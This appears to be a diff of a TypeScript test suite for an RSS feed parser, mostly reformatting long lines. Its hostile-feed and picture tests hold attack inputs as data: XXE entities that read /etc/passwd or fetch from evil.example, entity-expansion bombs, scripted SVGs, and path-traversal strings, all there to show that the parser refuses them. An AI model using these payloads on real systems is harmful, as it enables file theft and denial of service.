@@ -10,10 +10,18 @@ const namespaces =
   'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:own="https://imprimatur.example/ns/feed" xmlns:atom="http://www.w3.org/2005/Atom"'
 const feed = (items: string, head = '') =>
   `<?xml version="1.0"?><rss version="2.0" ${namespaces}><channel><title>Courier</title><link>https://courier.example/</link>${head}${items}</channel></rss>`
-const item = (inside: string, link = 'https://courier.example/a') => `<item><title>Head</title><link>${link}</link>${inside}</item>`
+const item = (inside: string, link = 'https://courier.example/a') =>
+  `<item><title>Head</title><link>${link}</link>${inside}</item>`
 const parse = (text: string | Uint8Array, readFile?: (relative: string) => Promise<Uint8Array | null>) =>
-  parseSource(typeof text === 'string' ? bytes(text) : text, { name: 'feed.xml', ...(readFile ? { readFile } : {}) })
-const only = async (inside: string, head = '', readFile?: (relative: string) => Promise<Uint8Array | null>) => {
+  parseSource(typeof text === 'string' ? bytes(text) : text, {
+    name: 'feed.xml',
+    ...(readFile ? { readFile } : {}),
+  })
+const only = async (
+  inside: string,
+  head = '',
+  readFile?: (relative: string) => Promise<Uint8Array | null>,
+) => {
   const { articles, rejected } = await parse(feed(item(inside), head), readFile)
   const [article] = articles
   if (!article || articles.length > 1) throw new Error(JSON.stringify(rejected))
@@ -74,7 +82,11 @@ describe('an item gives all it says', () => {
   })
 
   it('a permalink stands in for a missing link; without either the caller must say', async () => {
-    const { articles } = await parse(feed(`<item><title>A</title><guid>https://courier.example/g</guid>${text}</item><item><title>B</title>${text}</item>`))
+    const { articles } = await parse(
+      feed(
+        `<item><title>A</title><guid>https://courier.example/g</guid>${text}</item><item><title>B</title>${text}</item>`,
+      ),
+    )
     expect(articles.map(({ url }) => url)).toEqual(['https://courier.example/g', null])
   })
 
@@ -82,26 +94,43 @@ describe('an item gives all it says', () => {
     const article = await only(
       `<own:standfirst>Stand</own:standfirst><own:byline>By Nour Haddad</own:byline><own:embargoUntil>2026-05-03T09:00:00+02:00</own:embargoUntil><dc:creator>desk</dc:creator>${text}`,
     )
-    expect(article).toMatchObject({ standfirst: 'Stand', bylines: ['Nour Haddad'], embargoUntil: new Date('2026-05-03T07:00:00Z') })
+    expect(article).toMatchObject({
+      standfirst: 'Stand',
+      bylines: ['Nour Haddad'],
+      embargoUntil: new Date('2026-05-03T07:00:00Z'),
+    })
   })
 
   it.each(['tomorrow', '2026-05-03', '2026-05-03T09:00:00', '03/05/2026 09:00 GMT'])(
     'an embargo that cannot be read keeps the item out: %s',
     async (time) => {
-      const { articles, rejected } = await parse(feed(item(`<own:embargoUntil>${time}</own:embargoUntil>${text}`)))
+      const { articles, rejected } = await parse(
+        feed(item(`<own:embargoUntil>${time}</own:embargoUntil>${text}`)),
+      )
       expect(articles).toEqual([])
-      expect(rejected[0]).toMatchObject({ item: 'Head', reason: expect.stringContaining('no time with a zone') })
+      expect(rejected[0]).toMatchObject({
+        item: 'Head',
+        reason: expect.stringContaining('no time with a zone'),
+      })
     },
   )
 
   it('a date that cannot be read is left open', async () => {
     expect((await only(`<pubDate>next week</pubDate>${text}`)).publishedAt).toBeNull()
-    expect((await only(`<pubDate>next week</pubDate><dc:date>2016-05-03</dc:date>${text}`)).publishedAt).toEqual(new Date('2016-05-03'))
+    expect(
+      (await only(`<pubDate>next week</pubDate><dc:date>2016-05-03</dc:date>${text}`)).publishedAt,
+    ).toEqual(new Date('2016-05-03'))
   })
 
   it.each([
-    ['<cc:license xmlns:cc="http://web.resource.org/cc/" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" rdf:resource="https://l.example/by"/>', 'https://l.example/by'],
-    ['<creativeCommons:license xmlns:creativeCommons="http://backend.userland.com/creativeCommonsRssModule">https://l.example/by</creativeCommons:license>', 'https://l.example/by'],
+    [
+      '<cc:license xmlns:cc="http://web.resource.org/cc/" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" rdf:resource="https://l.example/by"/>',
+      'https://l.example/by',
+    ],
+    [
+      '<creativeCommons:license xmlns:creativeCommons="http://backend.userland.com/creativeCommonsRssModule">https://l.example/by</creativeCommons:license>',
+      'https://l.example/by',
+    ],
     ['<media:copyright url="https://l.example/">2016 AFP</media:copyright>', '2016 AFP https://l.example/'],
     ['<atom:link rel="license" href="https://l.example/by"/>', 'https://l.example/by'],
     ['', '© Courier'],
@@ -110,7 +139,9 @@ describe('an item gives all it says', () => {
   })
 
   it("an author's mail address is no byline", async () => {
-    expect((await only(`<author>desk@courier.example (Nour Haddad)</author>${text}`)).bylines).toEqual(['Nour Haddad'])
+    expect((await only(`<author>desk@courier.example (Nour Haddad)</author>${text}`)).bylines).toEqual([
+      'Nour Haddad',
+    ])
     expect((await only(`<author>desk@courier.example</author>${text}`)).bylines).toEqual([])
   })
 
@@ -145,7 +176,8 @@ describe('an item gives all it says', () => {
 })
 
 describe('pictures', () => {
-  const figure = '<content:encoded><![CDATA[<p>One.</p><img src="https://courier.example/i/1.jpg" alt="A">]]></content:encoded>'
+  const figure =
+    '<content:encoded><![CDATA[<p>One.</p><img src="https://courier.example/i/1.jpg" alt="A">]]></content:encoded>'
 
   it('one that is also in the text gains its credit there; another stands first', async () => {
     const { elements, body } = await only(
@@ -153,20 +185,34 @@ describe('pictures', () => {
        <media:content url="https://courier.example/i/2.jpg" type="image/jpeg"><media:description>Two</media:description><media:credit>Sami Adel</media:credit></media:content>${figure}`,
     )
     expect(elements).toEqual([
-      expect.objectContaining({ source: 'https://courier.example/i/2.jpg', caption: 'Two', credit: 'Sami Adel', kind: 'picture' }),
+      expect.objectContaining({
+        source: 'https://courier.example/i/2.jpg',
+        caption: 'Two',
+        credit: 'Sami Adel',
+        kind: 'picture',
+      }),
       expect.objectContaining({ source: 'https://courier.example/i/1.jpg', alt: 'A', credit: 'AFP' }),
     ])
-    expect(body.map((block) => (block.type === 'element' ? block.key : block.type))).toEqual([elements[0]?.key, 'paragraph', elements[1]?.key])
+    expect(body.map((block) => (block.type === 'element' ? block.key : block.type))).toEqual([
+      elements[0]?.key,
+      'paragraph',
+      elements[1]?.key,
+    ])
   })
 
   it('of one picture in several sizes the widest is taken, a thumbnail only alone', async () => {
-    const group = '<media:group><media:content url="https://c.example/s.jpg" medium="image" width="100"/><media:content url="https://c.example/l.jpg" medium="image" width="900"/></media:group>'
+    const group =
+      '<media:group><media:content url="https://c.example/s.jpg" medium="image" width="100"/><media:content url="https://c.example/l.jpg" medium="image" width="900"/></media:group>'
     const thumbnail = '<media:thumbnail url="https://c.example/t.jpg"/>'
     const sources = async (inside: string) => (await only(inside + text)).elements.map(({ source }) => source)
     expect(await sources(group + thumbnail)).toEqual(['https://c.example/l.jpg'])
     expect(await sources(thumbnail)).toEqual(['https://c.example/t.jpg'])
-    expect(await sources('<enclosure url="https://c.example/e.jpg" type="image/jpeg" length="1"/>')).toEqual(['https://c.example/e.jpg'])
-    expect(await sources('<enclosure url="https://c.example/e.mp3" type="audio/mpeg" length="1"/>')).toEqual([])
+    expect(await sources('<enclosure url="https://c.example/e.jpg" type="image/jpeg" length="1"/>')).toEqual([
+      'https://c.example/e.jpg',
+    ])
+    expect(await sources('<enclosure url="https://c.example/e.mp3" type="audio/mpeg" length="1"/>')).toEqual(
+      [],
+    )
     expect(await sources('<media:content url="javascript:alert(1)" medium="image"/>')).toEqual([])
   })
 
@@ -178,9 +224,15 @@ describe('pictures', () => {
     'pictures/script.svg': bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
     'pictures/handler.svg': bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
     'pictures/foreign.svg': bytes('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>'),
-    'pictures/outside.svg': bytes('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/p"/></svg>'),
-    'pictures/style.svg': bytes('<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/x"</style></svg>'),
-    'pictures/entity.svg': bytes('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'),
+    'pictures/outside.svg': bytes(
+      '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/p"/></svg>',
+    ),
+    'pictures/style.svg': bytes(
+      '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/x"</style></svg>',
+    ),
+    'pictures/entity.svg': bytes(
+      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
+    ),
   }
   const asked: string[] = []
   const readFile = async (relative: string) => {
@@ -188,7 +240,10 @@ describe('pictures', () => {
     return files[relative] ?? null
   }
   const withPicture = (source: string) =>
-    parse(feed(item(`<content:encoded><![CDATA[<p>One.</p><img src="${source}">]]></content:encoded>`)), readFile)
+    parse(
+      feed(item(`<content:encoded><![CDATA[<p>One.</p><img src="${source}">]]></content:encoded>`)),
+      readFile,
+    )
 
   it.each([
     ['pictures/map.svg', 'image/svg+xml'],
@@ -197,7 +252,9 @@ describe('pictures', () => {
     const { articles, rejected } = await withPicture(source)
     expect(rejected).toEqual([])
     const [article] = articles
-    expect(article?.pictures).toEqual([{ key: article?.elements[0]?.key, bytes: files[source.replace('./', '')], mime }])
+    expect(article?.pictures).toEqual([
+      { key: article?.elements[0]?.key, bytes: files[source.replace('./', '')], mime },
+    ])
     expect(article?.elements[0]?.source).toBe(source.replace('./', ''))
   })
 
@@ -219,14 +276,25 @@ describe('pictures', () => {
 
   it('no file outside the folder and no address is ever asked for', async () => {
     asked.length = 0
-    for (const source of ['../../etc/passwd', '/etc/passwd', '..%2f..%2fetc/passwd', '..\\..\\etc\\passwd', 'file:///etc/passwd', 'https://evil.example/p.png', '//evil.example/p.png', 'data:image/png;base64,AAAA'])
+    for (const source of [
+      '../../etc/passwd',
+      '/etc/passwd',
+      '..%2f..%2fetc/passwd',
+      '..\\..\\etc\\passwd',
+      'file:///etc/passwd',
+      'https://evil.example/p.png',
+      '//evil.example/p.png',
+      'data:image/png;base64,AAAA',
+    ])
       await withPicture(source)
-    for (const path of asked) expect(path).not.toMatch(/(?:^|\/)\.\.(?:\/|$)|^\/|:/)
-    expect(asked).toHaveLength(4)
+    expect(asked).toEqual([])
+    await withPicture('pictures/../pictures/map.svg')
+    expect(asked).toEqual(['pictures/map.svg'])
   })
 
   it('the same feed gives the same keys', async () => {
-    const keys = async () => (await withPicture('pictures/map.svg')).articles[0]?.elements.map(({ key }) => key)
+    const keys = async () =>
+      (await withPicture('pictures/map.svg')).articles[0]?.elements.map(({ key }) => key)
     expect(await keys()).toEqual(await keys())
   })
 })
@@ -240,15 +308,39 @@ describe('malformed feeds', () => {
 
   it.each([
     ['an unclosed element', '<item><title>Bad<link>https://courier.example/x</link></item>', 'XML is broken'],
-    ['a CDATA section without end', '<item><title>Bad</title><description><![CDATA[lost</item>', 'never closed'],
-    ['a CDATA section without end whose next item closes it', '<item><title>Bad</title><description><![CDATA[lost</description></item>\n<item><title>H</title><link>https://courier.example/2</link><description><![CDATA[x]]></description></item>', 'never closed'],
+    [
+      'a CDATA section without end',
+      '<item><title>Bad</title><description><![CDATA[lost</item>',
+      'never closed',
+    ],
+    [
+      'a CDATA section without end whose next item closes it',
+      '<item><title>Bad</title><description><![CDATA[lost</description></item>\n<item><title>H</title><link>https://courier.example/2</link><description><![CDATA[x]]></description></item>',
+      'never closed',
+    ],
     ['no title', '<item><description>x</description></item>', 'no title'],
     ['no text', '<item><title>Bad</title><link>https://courier.example/x</link></item>', 'no text'],
-    ['only a script', '<item><title>Bad</title><description>&lt;script&gt;x&lt;/script&gt;</description></item>', 'no text'],
+    [
+      'only a script',
+      '<item><title>Bad</title><description>&lt;script&gt;x&lt;/script&gt;</description></item>',
+      'no text',
+    ],
     ['nothing', '<item/>', 'no title'],
-    ['an element never opened', '<item><title>Bad</title></b></i><description>x</description></item>', 'XML is broken'],
-    ['100,000 elements inside one another', `<item><title>Bad</title>${'<a>'.repeat(100_000)}</item>`, 'XML is broken'],
-    ['too much markup', `<item><title>Bad</title><description>${'&lt;br&gt;'.repeat(250_000)}</description></item>`, 'more than 200000 parts'],
+    [
+      'an element never opened',
+      '<item><title>Bad</title></b></i><description>x</description></item>',
+      'XML is broken',
+    ],
+    [
+      '100,000 elements inside one another',
+      `<item><title>Bad</title>${'<a>'.repeat(100_000)}</item>`,
+      'XML is broken',
+    ],
+    [
+      'too much markup',
+      `<item><title>Bad</title><description>${'&lt;br&gt;'.repeat(250_000)}</description></item>`,
+      'more than 200000 parts',
+    ],
   ])('an item with %s is refused with its reason, and the others are taken', async (_, bad, reason) => {
     const { urls, rejected } = await survivors(feed(good(1) + bad + good(3)))
     expect(urls).toContain('https://courier.example/1')
@@ -259,14 +351,49 @@ describe('malformed feeds', () => {
   })
 
   it.each([
-    ['a bare ampersand', '<item><title>AT&T & sons</title><description>One & two; three</description></item>', 'AT&T & sons', 'One & two; three'],
-    ['a bare angle bracket', '<item><title>a < b</title><description>3 <4</description></item>', 'a < b', '3 <4'],
-    ['HTML that is not escaped', '<item><title>T</title><description><p>One<br>two<p>three</description></item>', 'T', 'One\ntwo\n\nthree'],
-    ['HTML names of characters', '<item><title>Caf&eacute;</title><description>One&nbsp;&mdash; two</description></item>', 'Café', 'One\u00a0— two'],
-    ['a prefix nobody declared', '<item><title>T</title><content:encoded>One</content:encoded><itunes:subtitle>x</itunes:subtitle></item>', 'T', 'One'],
+    [
+      'a bare ampersand',
+      '<item><title>AT&T & sons</title><description>One & two; three</description></item>',
+      'AT&T & sons',
+      'One & two; three',
+    ],
+    [
+      'a bare angle bracket',
+      '<item><title>a < b</title><description>3 <4</description></item>',
+      'a < b',
+      '3 <4',
+    ],
+    [
+      'HTML that is not escaped',
+      '<item><title>T</title><description><p>One<br>two<p>three</description></item>',
+      'T',
+      'One\ntwo\n\nthree',
+    ],
+    [
+      'HTML names of characters',
+      '<item><title>Caf&eacute;</title><description>One&nbsp;&mdash; two</description></item>',
+      'Café',
+      'One\u00a0— two',
+    ],
+    [
+      'a prefix nobody declared',
+      '<item><title>T</title><content:encoded>One</content:encoded><itunes:subtitle>x</itunes:subtitle></item>',
+      'T',
+      'One',
+    ],
     ['no end', '<item><title>T</title><description>One</description>', 'T', 'One'],
-    ['markup in its title', '<item><title>&lt;b&gt;T&lt;/b&gt;</title><description>One</description></item>', 'T', 'One'],
-    ['attributes without quotes inside its text', '<item><title>T</title><description><a href=https://a.example/>One</a></description></item>', 'T', 'One'],
+    [
+      'markup in its title',
+      '<item><title>&lt;b&gt;T&lt;/b&gt;</title><description>One</description></item>',
+      'T',
+      'One',
+    ],
+    [
+      'attributes without quotes inside its text',
+      '<item><title>T</title><description><a href=https://a.example/>One</a></description></item>',
+      'T',
+      'One',
+    ],
   ])('an item with %s is still read', async (_, xml, headline, body) => {
     const { articles, rejected } = await parse(`<rss><channel>${xml}${good(2)}</channel></rss>`)
     expect(rejected).toEqual([])
@@ -276,7 +403,11 @@ describe('malformed feeds', () => {
   })
 
   it('a feed cut off anywhere never throws and keeps what is whole', async () => {
-    const whole = feed(good(1) + item('<content:encoded><![CDATA[<p>Two</p>]]></content:encoded>', 'https://courier.example/2') + good(3))
+    const whole = feed(
+      good(1) +
+        item('<content:encoded><![CDATA[<p>Two</p>]]></content:encoded>', 'https://courier.example/2') +
+        good(3),
+    )
     for (let end = 0; end < whole.length; end += 7) {
       const { articles } = await rss.parse(bytes(whole.slice(0, end)), { name: 'cut', defaults: {} })
       if (end > whole.indexOf('</item>') + 7) expect(articles[0]?.url).toBe('https://courier.example/1')
@@ -286,7 +417,8 @@ describe('malformed feeds', () => {
 
 describe('hostile feeds', () => {
   it('no entity of a document type is expanded', async () => {
-    const doctype = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY % p SYSTEM "https://evil.example/d"> %p;]>'
+    const doctype =
+      '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY % p SYSTEM "https://evil.example/d"> %p;]>'
     const xml = `${doctype}<rss><channel><item><title>One &x;</title><description>x</description></item><item><title>Two</title><description>&b;</description></item>${item(text)}</channel></rss>`
     const { articles, rejected } = await parse(xml)
     expect(articles.map(({ headline }) => headline)).toEqual(['Head'])
@@ -305,10 +437,16 @@ describe('hostile feeds', () => {
     ['items', `<rss>${'<item>'.repeat(100_000)}`],
     ['titles', `<rss><item>${'<title>'.repeat(100_000)}</item>`],
     ['descriptions', `<rss><item>${'<description>x'.repeat(100_000)}`],
-    ['attributes', `<rss><item ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(' ')}><title>x</title></item></rss>`],
+    [
+      'attributes',
+      `<rss><item ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(' ')}><title>x</title></item></rss>`,
+    ],
     ['ampersands', `<rss><item><title>${'&'.repeat(500_000)}</title></item></rss>`],
     ['brackets', `<rss><item><title>${'<'.repeat(500_000)}</title></item></rss>`],
-    ['spaces', `<rss><item><title>${' '.repeat(500_000)}x</title><description>${' \n'.repeat(300_000)}x</description></item></rss>`],
+    [
+      'spaces',
+      `<rss><item><title>${' '.repeat(500_000)}x</title><description>${' \n'.repeat(300_000)}x</description></item></rss>`,
+    ],
     ['end tags', `<rss><item>${'</a>'.repeat(200_000)}</item></rss>`],
   ])('%s without end are read in bounded time', async (_, xml) => {
     const started = performance.now()
@@ -325,7 +463,8 @@ describe('hostile feeds', () => {
 })
 
 describe('encodings', () => {
-  const xml = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?><rss><channel><item><title>“Été”</title><description>حلب – à</description></item></channel></rss>`
+  const xml = (encoding: string) =>
+    `<?xml version="1.0" encoding="${encoding}"?><rss><channel><item><title>“Été”</title><description>حلب – à</description></item></channel></rss>`
   const latin = (encoding: string) =>
     Buffer.concat([
       Buffer.from(`<?xml version="1.0" encoding="${encoding}"?><rss><channel><item><title>`),
@@ -364,35 +503,45 @@ const kept = ['feedparser', 'gofeed', 'rss-parser'].flatMap((folder) => {
   return existsSync(place) ? readdirSync(place).map((name) => path.join(place, name)) : []
 })
 
-describe.skipIf(kept.length === 0)("samples of public parsers' tests (skipped where they are not beside the project)", () => {
-  const fetched = vi.fn()
-  beforeAll(() => {
-    vi.stubGlobal('fetch', fetched)
-  })
-  afterAll(() => {
-    vi.unstubAllGlobals()
-  })
+describe.skipIf(kept.length === 0)(
+  "samples of public parsers' tests (skipped where they are not beside the project)",
+  () => {
+    const fetched = vi.fn()
+    beforeAll(() => {
+      vi.stubGlobal('fetch', fetched)
+    })
+    afterAll(() => {
+      vi.unstubAllGlobals()
+    })
 
-  it('every item is taken or refused with a reason, without network or file', async () => {
-    const readFile = vi.fn(async () => null)
-    let taken = 0
-    let refused = 0
-    for (const file of kept) {
-      const held = readFileSync(file)
-      const items = [...held.toString('latin1').matchAll(/<(?:item|entry)[\s>]/g)].length
-      for (const parsed of [await rss.parse(held, { name: file, defaults: {}, readFile }), await parseSource(held, { name: file, readFile })]) {
-        expect(parsed.articles.length + parsed.rejected.length, file).toBeGreaterThanOrEqual(Math.max(1, items))
-        for (const { reason } of parsed.rejected) expect(reason, file).toMatch(/^[\p{Lu}“].{10,}\.$/su)
-        for (const { body, headline } of parsed.articles) {
-          expect(headline, file).not.toBe('')
-          expect(plainText(body), file).not.toBe('')
+    it('every item is taken or refused with a reason, without network or file', async () => {
+      const readFile = vi.fn(async () => null)
+      let taken = 0
+      let refused = 0
+      for (const file of kept) {
+        const held = readFileSync(file)
+        const items = [...held.toString('latin1').matchAll(/<(?:item|entry)[\s>]/g)].length
+        for (const parsed of [
+          await rss.parse(held, { name: file, defaults: {}, readFile }),
+          await parseSource(held, { name: file, readFile }),
+        ]) {
+          expect(parsed.articles.length + parsed.rejected.length, file).toBeGreaterThanOrEqual(
+            Math.max(1, items),
+          )
+          for (const { reason } of parsed.rejected) expect(reason, file).toMatch(/^[\p{Lu}“].{10,}\.$/su)
+          for (const { body, headline } of parsed.articles) {
+            expect(headline, file).not.toBe('')
+            expect(plainText(body), file).not.toBe('')
+          }
+          taken += parsed.articles.length
+          refused += parsed.rejected.length
         }
-        taken += parsed.articles.length
-        refused += parsed.rejected.length
       }
-    }
-    console.info(`feed samples: ${kept.length} files read twice, ${taken} items taken, ${refused} refused with a reason`)
-    expect(fetched).not.toHaveBeenCalled()
-    expect(readFile).not.toHaveBeenCalled()
-  })
-})
+      console.info(
+        `feed samples: ${kept.length} files read twice, ${taken} items taken, ${refused} refused with a reason`,
+      )
+      expect(fetched).not.toHaveBeenCalled()
+      expect(readFile).not.toHaveBeenCalled()
+    })
+  },
+)
